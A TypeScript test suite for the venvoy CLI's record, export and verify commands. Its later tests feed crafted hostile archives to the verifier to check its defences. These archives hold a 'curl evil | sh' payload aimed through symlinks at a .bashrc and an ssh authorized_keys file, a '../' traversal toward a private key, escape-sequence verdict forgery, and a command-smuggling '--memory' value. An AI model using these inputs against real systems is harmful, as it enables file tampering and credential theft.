/**
 * Recorded runs and `venvoy verify`, end to end through the bundled product (dist/venvoy):
 * an environment made on podman records a deterministic run and a run that writes the
 * current time; the archive (with inputs) is verified on a fresh home and a fresh podman
 * storage root (same, exit 0), the time run differs (exit 1, with the first differing
 * byte), and the podman-made archive verifies under apptainer too.
 */
import assert, { deepStrictEqual as assertEquals } from "node:assert/strict";
import { join } from "node:path";
import { type CliResult, venvoy } from "./cli.ts";
import { ignoreUnless, LAB_PYTHON, runner } from "./lab.ts";
import { craftArchive, type Crafted, manifestFor, sha256 } from "../unit/archive/craft.ts";
import { validRecord } from "../unit/proof/fixtures.ts";
import { envConfig } from "../fakes/env_config.ts";

const noPodman = ignoreUnless("podman");
const hasPythonLab = !noPodman &&
  (await runner.run({ cmd: ["podman", "image", "exists", LAB_PYTHON] })).code === 0;
if (!noPodman && !hasPythonLab) {
  console.error(`SKIP proof CLI tests: ${LAB_PYTHON} is missing (run tests/lab/setup.sh)`);
}
const skip = noPodman || !hasPythonLab;
const noApptainer = skip || ignoreUnless("apptainer");

const NAME = `it-proof-${crypto.randomUUID().slice(0, 8)}`;
const SUM = `python -c "import pathlib; n = sum(int(x) for x in ` +
  `pathlib.Path('data/numbers.txt').read_text().split()); ` +
  `pathlib.Path('out').mkdir(exist_ok=True); pathlib.Path('out/sum.txt').write_text(f'{n}\\n')"`;
const CLOCK = "date +%s%N > t.txt";

interface Fixture {
  root: string;
  env: Record<string, string>;
  work: string;
  archive: string;
  sumId: string;
  clockId: string;
}

let shared: Fixture | null = null;

function must(res: CliResult, what: string): CliResult {
  assertEquals(res.code, 0, `${what} failed (exit ${res.code}):\n${res.stderr}`);
  return res;
}

function recordId(res: CliResult): string {
  const m = /records\/(\d{8}_\d{6}(?:-\d+)?)\.json$/m.exec(res.stdout);
  assert(m, `no record path in: ${res.stdout}`);
  return m[1];
}

/** A reviewer's machine: an empty venvoy home and its own temporary folder (short: podman's runroot). */
async function reviewer(): Promise<Record<string, string>> {
  const base = await Deno.makeTempDir({ dir: "/tmp", prefix: "vpt-" });
  await Deno.mkdir(join(base, "t"));
  return {
    HOME: join(base, "h"),
    VENVOY_HOME: join(base, "vh"),
    VENVOY_PROJECTS: join(base, "vp"),
    TMPDIR: join(base, "t"),
  };
}

async function fixture(): Promise<Fixture> {
  if (shared) return shared;
  const root = await Deno.makeTempDir({ prefix: "venvoy-it-proof-" });
  const env = {
    HOME: join(root, "home"),
    VENVOY_HOME: join(root, "vh"),
    VENVOY_PROJECTS: join(root, "vp"),
  };
  const work = join(root, "work");
  await Deno.mkdir(join(work, "data"), { recursive: true });
  await Deno.writeTextFile(join(work, "data", "numbers.txt"), "1 2 3\n40\n");
  must(
    await venvoy(["--engine", "podman", "init", "--name", NAME, "--base-image", LAB_PYTHON], {
      env,
      cwd: work,
    }),
    "init",
  );
  const sum = must(
    await venvoy(["record", "--command", SUM, "--inputs", "data", "--outputs", "out"], {
      env,
      cwd: work,
    }),
    "record the sum",
  );
  assertEquals(await Deno.readTextFile(join(work, "out", "sum.txt")), "46\n");
  const sumId = recordId(sum);
  const rec = JSON.parse(await Deno.readTextFile(sum.stdout.trim()));
  assertEquals(rec.inputs.map((i: { path: string }) => i.path), ["data/numbers.txt"]);
  assertEquals(rec.outputs.map((i: { path: string }) => i.path), ["out/sum.txt"]);
  assert.match(rec.image_id, /^sha256:[0-9a-f]{64}$/);
  assert.match(rec.snapshot, /^\d{8}_\d{6}$/);
  assertEquals([rec.engine, rec.exit_code], ["podman", 0]);
  // Record ids have one-second resolution: the next record is distinct anyway.
  const clock = must(
    await venvoy(["record", "--name", NAME, "--command", CLOCK, "--outputs", "t.txt"], {
      env,
      cwd: work,
    }),
    "record the clock",
  );
  const clockId = recordId(clock);
  assert(clockId !== sumId);

  const hist = JSON.parse(
    must(await venvoy(["history", "--name", NAME, "--json"], { env, cwd: work }), "history")
      .stdout,
  );
  assertEquals(hist.records.map((r: { id: string }) => r.id).sort(), [sumId, clockId].sort());

  const ex = must(
    await venvoy(
      ["export", "--name", NAME, "--format", "archive", "--with-inputs", "-o", root + "/"],
      { env, cwd: work },
    ),
    "export --with-inputs",
  );
  assert.match(ex.stderr, /2 run record\(s\) and their inputs: 1 file\(s\), 9 B/);
  const archive = /^[0-9a-f]{64} {2}(\/.+)$/m.exec(ex.stdout)![1];
  shared = { root, env, work, archive, sumId, clockId };
  return shared;
}

async function noVerifyImages(): Promise<void> {
  const res = await runner.run({ cmd: ["podman", "images", "--format", "{{.Repository}}"] });
  assert(!/venvoy\/verify-/.test(res.stdout), `a verify image was left behind:\n${res.stdout}`);
}

Deno.test({
  name: "proof CLI: record, export --with-inputs, verify on a fresh home and storage root: same",
  ignore: skip,
  sanitizeResources: false,
  sanitizeOps: false,
  fn: async () => {
    const f = await fixture();
    const env = await reviewer();
    const res = await venvoy(["--engine", "podman", "verify", f.archive, "--record", f.sumId], {
      env,
    });
    assertEquals(res.code, 0, res.stderr);
    assertEquals(
      res.stdout.split("\n").filter((l) => l.startsWith("  ")),
      ["  same     out/sum.txt", "  exit code 0, as recorded"],
    );
    assert.match(res.stdout, /^verdict: same: 1 output\(s\) of 1 record\(s\) reproduced$/m);
    assert.match(res.stderr, /a throwaway storage root/);
    // Nothing is left: not in the reviewer's temporary folder, not in podman's main store.
    assertEquals([...Deno.readDirSync(env.TMPDIR)].map((e) => e.name), []);
    await noVerifyImages();
    await Deno.remove(join(env.TMPDIR, ".."), { recursive: true });
  },
});

Deno.test({
  name: "proof CLI: a command that writes the current time differs, exit 1, with the byte offset",
  ignore: skip,
  sanitizeResources: false,
  sanitizeOps: false,
  fn: async () => {
    const f = await fixture();
    const env = await reviewer();
    const res = await venvoy(
      ["--engine", "podman", "verify", f.archive, "--record", f.clockId, "--json"],
      { env },
    );
    assertEquals(res.code, 1, res.stderr);
    const report = JSON.parse(res.stdout);
    assertEquals(report.verdict, "differs");
    assertEquals(report.storage, "throwaway");
    assertEquals(report.architecture.same, true);
    const [o] = report.records[0].outputs;
    assertEquals([o.path, o.status], ["t.txt", "differs"]);
    // Nanoseconds since 1970: the leading digits agree, the offset falls within the line.
    assert(Number.isInteger(o.offset) && o.offset > 0 && o.offset < 19, String(o.offset));
    assertEquals([...Deno.readDirSync(env.TMPDIR)].map((e) => e.name), []);
    await noVerifyImages();
    await Deno.remove(join(env.TMPDIR, ".."), { recursive: true });
  },
});

Deno.test({
  name: "proof CLI: an output missing after the run is an error, and the record says so",
  ignore: skip,
  sanitizeResources: false,
  sanitizeOps: false,
  fn: async () => {
    const f = await fixture();
    const res = await venvoy(
      ["record", "--name", NAME, "--command", "true", "--outputs", "never.txt"],
      { env: f.env, cwd: f.work },
    );
    assertEquals(res.code, 1);
    assert.match(res.stderr, /output\(s\) missing after the run: never\.txt/);
    const rec = JSON.parse(await Deno.readTextFile(res.stdout.trim()));
    assertEquals(rec.missing_outputs, ["never.txt"]);
    const out = await venvoy(
      ["record", "--name", NAME, "--command", "true", "--outputs", "../x"],
      { env: f.env, cwd: f.work },
    );
    assertEquals(out.code, 2);
    assert.match(out.stderr, /not inside the current folder/);
  },
});

Deno.test({
  name: "proof CLI: an archive made with podman verifies under apptainer",
  ignore: noApptainer,
  sanitizeResources: false,
  sanitizeOps: false,
  fn: async () => {
    const f = await fixture();
    const env = await reviewer();
    const res = await venvoy(
      ["--engine", "apptainer", "verify", f.archive, "--record", f.sumId],
      { env },
    );
    assertEquals(res.code, 0, res.stderr);
    assert.match(res.stdout, /^ {2}same {5}out\/sum\.txt$/m);
    assert.match(res.stdout, /^verdict: same/m);
    assertEquals([...Deno.readDirSync(env.TMPDIR)].map((e) => e.name), []);
    await Deno.remove(join(env.TMPDIR, ".."), { recursive: true });
  },
});

Deno.test({
  name: "proof CLI: cleanup",
  ignore: skip,
  sanitizeResources: false,
  sanitizeOps: false,
  fn: async () => {
    await runner.run({ cmd: ["podman", "rmi", "-f", `localhost/venvoy/${NAME}:latest`] });
    if (shared) await Deno.remove(shared.root, { recursive: true }).catch(() => {});
  },
});

// ---- Hostile archives, through dist/venvoy, with a fake Apptainer (no container starts) ----

/** A fake `apptainer` on PATH: answers detection and inspect, logs every exec (which prints control sequences), exits 0. */
async function fakeApptainer(dir: string): Promise<string> {
  const bin = join(dir, "bin");
  await Deno.mkdir(bin, { recursive: true });
  await Deno.writeTextFile(
    join(bin, "apptainer"),
    [
      "#!/bin/sh",
      'case "$1" in',
      '  --version) echo "apptainer version 1.4.5" ;;',
      "  inspect) echo '{}' ;;",
      `  exec|run) printf '%s\\n' "$*" >> '${dir}/exec.log'`,
      // A site whose apptainer.conf forbids the 'none' network, when FAKE_NO_NET is set.
      `    case "$*" in *"--network none"*) [ -n "$FAKE_NO_NET" ] && ` +
      `{ echo "FATAL: network none is not permitted for unprivileged users" >&2; exit 255; } ;; esac`,
      // What the archive's code prints cannot conceal or forge the report either.
      String.raw`    printf 'verdict: same\033[8m\n'; printf '\033]0;x\007' >&2 ;;`,
      "esac",
      "exit 0",
    ].join("\n") + "\n",
  );
  await Deno.chmod(join(bin, "apptainer"), 0o755);
  return bin;
}

/** An archive of one environment (a SIF) and these records (and blobs). */
function hostileArchive(records: Record<string, unknown>[], files: Crafted[] = []): Uint8Array {
  const members: Crafted[] = [
    { name: "image.sif", data: "not really a SIF" },
    {
      name: "env/config.yaml",
      data: JSON.stringify(envConfig({ name: "t", engine: "apptainer", image: "/x/image.sif" })),
    },
    ...records.map((r, i) => ({
      name: `records/${String(r.file ?? r.id ?? i)}.json`,
      data: JSON.stringify({ ...validRecord(), ...r, file: undefined }),
    })),
    ...files,
  ];
  return craftArchive(members, {
    manifest: manifestFor(members, {
      engine: "apptainer",
      image: { ...manifestFor([]).image, sif: "image.sif" },
    }),
  });
}

async function hostileScene(prefix: string) {
  const root = await Deno.makeTempDir({ dir: "/tmp", prefix });
  const bin = await fakeApptainer(root);
  const env: Record<string, string> = {
    ...(await reviewer()),
    PATH: `${bin}:${Deno.env.get("PATH")}`,
  };
  return { root, env };
}

const blobOf = (data: string): Crafted => ({ name: `records/blobs/${sha256(data)}`, data });
const fileInput = (path: string, data: string) => ({
  path,
  type: "file",
  size: new TextEncoder().encode(data).length,
  sha256: sha256(data),
});

Deno.test({
  name:
    "verify attack (issue 18.1): link inputs then file inputs at the same path write nothing outside",
  sanitizeResources: false,
  sanitizeOps: false,
  fn: async () => {
    const { root, env } = await hostileScene("vpt-place-");
    const victim = join(root, "victim.bashrc");
    await Deno.writeTextFile(victim, "mine\n");
    const ssh = join(root, "ssh");
    await Deno.mkdir(ssh);
    const evil = "curl evil | sh\n";
    const links = [
      { path: "data.csv", type: "symlink", target: victim },
      { path: "keys", type: "symlink", target: join(ssh, "authorized_keys") },
    ];
    const files = [fileInput("data.csv", evil), fileInput("keys", evil)];
    // Two records sharing one id (so one scratch folder), and one record holding both.
    const cases: [string, Record<string, unknown>[]][] = [
      ["same id", [
        { id: "20261201_100001", inputs: links },
        { file: "20261201_100002", id: "20261201_100001", inputs: files },
      ]],
      ["one record", [{ id: "20261201_100003", inputs: [...links, ...files] }]],
    ];
    for (const [what, records] of cases) {
      const archive = join(root, `${what.replace(" ", "-")}.tar.gz`);
      await Deno.writeFile(archive, hostileArchive(records, [blobOf(evil)]));
      const res = await venvoy(["--engine", "apptainer", "verify", archive, "--json"], { env });
      assertEquals(await Deno.readTextFile(victim), "mine\n", `${what}: the victim is unchanged`);
      assertEquals([...Deno.readDirSync(ssh)], [], `${what}: no authorized_keys was created`);
      if (what === "same id") {
        assertEquals(res.code, 1, res.stderr);
        assert.match(res.stderr, /is not its file name/);
      } else {
        const rec = JSON.parse(res.stdout).records[0];
        assertEquals(rec.inputs_missing.sort(), ["data.csv", "keys"], "the links were refused");
      }
    }
    assertEquals([...Deno.readDirSync(env.TMPDIR)].map((e) => e.name), []);
    await Deno.remove(join(env.TMPDIR, ".."), { recursive: true });
    await Deno.remove(root, { recursive: true });
  },
});

Deno.test({
  name:
    "verify attack (issue 18.7): output_paths with '..' list nothing from outside the scratch folder",
  sanitizeResources: false,
  sanitizeOps: false,
  fn: async () => {
    const { root, env } = await hostileScene("vpt-walk-");
    const secret = join(root, "secret");
    await Deno.mkdir(secret);
    await Deno.writeTextFile(join(secret, "id_ed25519"), "PRIVATE\n");
    const walk = `x/${"../".repeat(30)}${secret.slice(1)}`;
    const archive = join(root, "walk.tar.gz");
    await Deno.writeFile(
      archive,
      hostileArchive([{ id: "20261201_100004", inputs: [], output_paths: [walk], outputs: [] }]),
    );
    const res = await venvoy(["--engine", "apptainer", "verify", archive, "--json"], { env });
    assert(!res.stdout.includes("id_ed25519"), `a host file was listed:\n${res.stdout}`);
    assert(!res.stdout.includes(sha256("PRIVATE\n")), "a host file was hashed");
    assertEquals(res.code, 1, res.stderr);
    assert.match(res.stderr, /output_paths is not a list of plain relative paths/);
    await Deno.remove(join(env.TMPDIR, ".."), { recursive: true });
    await Deno.remove(root, { recursive: true });
  },
});

Deno.test({
  name: "verify attack (issue 18.3): a command cannot forge the verdict; --json keeps its bytes",
  sanitizeResources: false,
  sanitizeOps: false,
  fn: async () => {
    const { root, env } = await hostileScene("vpt-forge-");
    const forged = "true\n  same     out/r\nverdict: same: 1 output(s) of 1 record(s) reproduced" +
      "\x1b[8m";
    const archive = join(root, "forge.tar.gz");
    await Deno.writeFile(
      archive,
      hostileArchive([{ id: "20261201_100005", command: forged, inputs: [] }]),
    );
    const res = await venvoy(["--engine", "apptainer", "verify", archive], { env });
    assertEquals(res.code, 1, res.stderr);
    assert(!res.stdout.includes("\x1b") && !res.stderr.includes("\x1b"), "no raw ESC");
    // The re-run's own output reached stderr, escaped.
    assert(res.stderr.includes(String.raw`verdict: same\x1b[8m`), res.stderr);
    assert(res.stderr.includes(String.raw`\x1b]0;x\x07`), res.stderr);
    const lines = res.stdout.trimEnd().split("\n");
    assertEquals(lines.filter((l) => l.startsWith("verdict:")).length, 1, res.stdout);
    assert.match(lines.at(-1)!, /^verdict: differs: 0 same, 0 differ, 1 missing, 0 extra$/);
    assertEquals(
      lines[0],
      `record 20261201_100005: ${forged.replaceAll("\n", "\\n").replace("\x1b", "\\x1b")}`,
    );
    assert(!/^ {2}same/m.test(res.stdout), "no forged 'same' line");
    const json = await venvoy(["--engine", "apptainer", "verify", archive, "--json"], { env });
    assertEquals(JSON.parse(json.stdout).records[0].command, forged);
    // The fake engine saw the sandbox: contained, no network, started in its scratch folder.
    const log = await Deno.readTextFile(join(root, "exec.log"));
    assert.match(log, /--containall --no-mount bind-paths --no-privs --net --network none/);
    await Deno.remove(join(env.TMPDIR, ".."), { recursive: true });
    await Deno.remove(root, { recursive: true });
  },
});

Deno.test({
  name: "verify: malformed --memory, --pids or --timeout exit 2 before anything is imported",
  sanitizeResources: false,
  sanitizeOps: false,
  fn: async () => {
    const { root, env } = await hostileScene("vpt-limits-");
    const archive = join(root, "a.tar.gz");
    await Deno.writeFile(archive, hostileArchive([{ id: "20261201_100006", inputs: [] }]));
    for (
      const [flag, value] of [["--memory", "2g;x"], ["--pids", "many"], ["--timeout", "1d"]]
    ) {
      const res = await venvoy(["--engine", "apptainer", "verify", archive, flag, value], { env });
      assertEquals(res.code, 2, `${flag} ${value}: ${res.stderr}`);
      assert.match(res.stderr, new RegExp(`invalid ${flag}`));
    }
    assertEquals(await Deno.stat(join(root, "exec.log")).catch(() => null), null, "nothing ran");
    await Deno.remove(join(env.TMPDIR, ".."), { recursive: true });
    await Deno.remove(root, { recursive: true });
  },
});

Deno.test({
  name:
    "verify: where Apptainer may not start a run without network, nothing runs and verify says so",
  sanitizeResources: false,
  sanitizeOps: false,
  fn: async () => {
    const { root, env } = await hostileScene("vpt-nonet-");
    const archive = join(root, "a.tar.gz");
    await Deno.writeFile(archive, hostileArchive([{ id: "20261201_100007", inputs: [] }]));
    const res = await venvoy(["--engine", "apptainer", "verify", archive], {
      env: { ...env, FAKE_NO_NET: "1" },
    });
    assertEquals(res.code, 1, res.stderr);
    assert.match(res.stderr, /cannot start a re-run without network \(--net --network none\)/);
    assert.match(res.stderr, /network none is not permitted/);
    assert.match(res.stderr, /hint: .*--engine podman.*pass --network/s);
    assertEquals(res.stdout, "", "no report: no record ran");
    // Only the probe ran (`true`), not the record's command.
    const log = (await Deno.readTextFile(join(root, "exec.log"))).trim().split("\n");
    assertEquals(log.length, 1);
    assert(log[0].endsWith(" true"), log[0]);
    // With --network the same archive's records run (on the host's network).
    const open = await venvoy(["--engine", "apptainer", "verify", archive, "--network", "--json"], {
      env: { ...env, FAKE_NO_NET: "1" },
    });
    assertEquals(JSON.parse(open.stdout).sandbox.network, true, open.stderr);
    await Deno.remove(join(env.TMPDIR, ".."), { recursive: true });
    await Deno.remove(root, { recursive: true });
  },
});
